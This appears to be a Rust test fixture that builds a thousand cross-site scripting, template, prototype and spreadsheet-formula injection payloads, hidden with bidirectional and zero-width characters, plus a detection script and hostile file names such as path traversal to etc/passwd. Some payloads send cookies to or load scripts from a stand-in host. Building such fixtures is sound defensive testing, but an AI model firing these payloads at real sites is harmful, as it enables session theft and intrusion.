//! Texts that would do something where they are not treated as texts: a thousand of them, made from what is known to work
//! somewhere, and the ways to hide it.

/// What a payload does once it is executed: it leaves a mark that [`MARKED`] finds, and asks a stranger for something.
const DEEDS: [&str; 5] = [
    "window.pwned=1",
    "top.pwned=1",
    "fetch('http://evil.invalid/'+document.cookie)",
    "new Image().src='//evil.invalid/x'",
    "document.documentElement.setAttribute('data-pwned','1')",
];

/// Markup that runs a deed.
const MARKUP: [&str; 26] = [
    "<script>@</script>",
    "<ScRiPt>@</sCrIpT>",
    "<script src=//evil.invalid/x.js></script>",
    "\"><script>@</script>",
    "'><img src=x onerror=@>",
    "<img src=x onerror=\"@\">",
    "<img/src='x'/onerror=@>",
    "<svg onload=@>",
    "<svg><script>@</script></svg>",
    "<svg><animate onbegin=@ attributeName=x dur=1s>",
    "<math><mtext></form><form><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=@ src=1>\">",
    "<body onload=@>",
    "<iframe srcdoc='<script>@</script>'></iframe>",
    "<iframe src=\"javascript:@\"></iframe>",
    "<object data=\"javascript:@\"></object>",
    "<embed src=\"data:text/html,<script>@</script>\">",
    "<a href=\"javascript:@\">点我</a>",
    "<form action=\"javascript:@\"><button>提交</button></form>",
    "<input autofocus onfocus=@>",
    "<details open ontoggle=@>",
    "<video><source onerror=\"@\">",
    "<style>@import 'http://evil.invalid/x.css';</style>",
    "<link rel=stylesheet href=http://evil.invalid/x.css>",
    "<meta http-equiv=refresh content=\"0;url=javascript:@\">",
    "<base href=http://evil.invalid/>",
    "</textarea></title></style></script><svg/onload=@>",
];

/// What runs elsewhere than in markup: addresses, templates, prototypes, spreadsheets.
const OTHER: [&str; 24] = [
    "javascript:@",
    "jAvAsCrIpT:@",
    "data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+",
    "{{constructor.constructor('@')()}}",
    "${@}",
    "#{@}",
    "<%= @ %>",
    "__proto__",
    "constructor",
    "'; @; //",
    "\"; @; //",
    "`; @; //",
    "\\\"; @; //",
    "]]>@",
    "<!--@-->",
    "=cmd|' /C calc'!A0",
    "+HYPERLINK(\"http://evil.invalid\",\"点我\")",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "%00%3Cscript%3E@%3C/script%3E",
    "&lt;script&gt;@&lt;/script&gt;",
    "&#60;img src=x onerror=@&#62;",
    "\\u003cscript\\u003e@\\u003c/script\\u003e",
];

/// What is put around a payload to hide it or to turn it round.
const HIDING: [(&str, &str); 4] =
    [("", ""), ("\u{202e}", ""), ("\u{200b}", "\u{feff}"), ("\u{2066}投诉\u{2067}", "\u{2069}")];

/// A thousand of them, all different.
pub fn payloads() -> Vec<String> {
    let forms = MARKUP.iter().chain(&OTHER);
    let all = forms.flat_map(|form| {
        HIDING.iter().flat_map(move |(before, after)| {
            DEEDS.iter().map(move |deed| format!("{before}{}{after}", form.replace('@', deed)))
        })
    });
    let mut all: Vec<String> = all.collect();
    all.sort();
    all.dedup();
    let more = (0..).map(|n| format!("<img src=x{n} onerror=window.pwned={n}>"));
    let lacking = 1_000_usize.saturating_sub(all.len());
    all.extend(more.take(lacking));
    all.truncate(1_000);
    all
}

/// A script that tells whether any payload was executed or became more than text.
pub const MARKED: &str = "return window.pwned !== undefined || top.pwned !== undefined
    || document.documentElement.hasAttribute('data-pwned') || ({}).pwned !== undefined
    || document.querySelectorAll('iframe, object, embed, base, img[src^=x], math, script:not([src]):not([type])').length > 0
    || [...document.querySelectorAll('a[href], form[action]')].some((it) => /^(javascript|data):/i.test(it.getAttribute('href') ?? it.getAttribute('action')))
    || performance.getEntriesByType('resource').some((it) => !it.name.startsWith(location.origin) && !it.name.startsWith('blob:'))";

/// Names for a file that would lead elsewhere or hide what they are.
pub const NAMES: [&str; 8] = [
    "=cmd.huiyin.json",
    "<img src=x onerror=window.pwned=1>.huiyin.json",
    "\u{202e}nosj.niyiuh.json",
    "CON.huiyin.json",
    "..%2f..%2fetc%2fpasswd.huiyin.json",
    "javascript:window.pwned=1.huiyin.json",
    "'\"><svg onload=window.pwned=1>.huiyin.json",
    "{{constructor.constructor('window.pwned=1')()}}.huiyin.json",
];
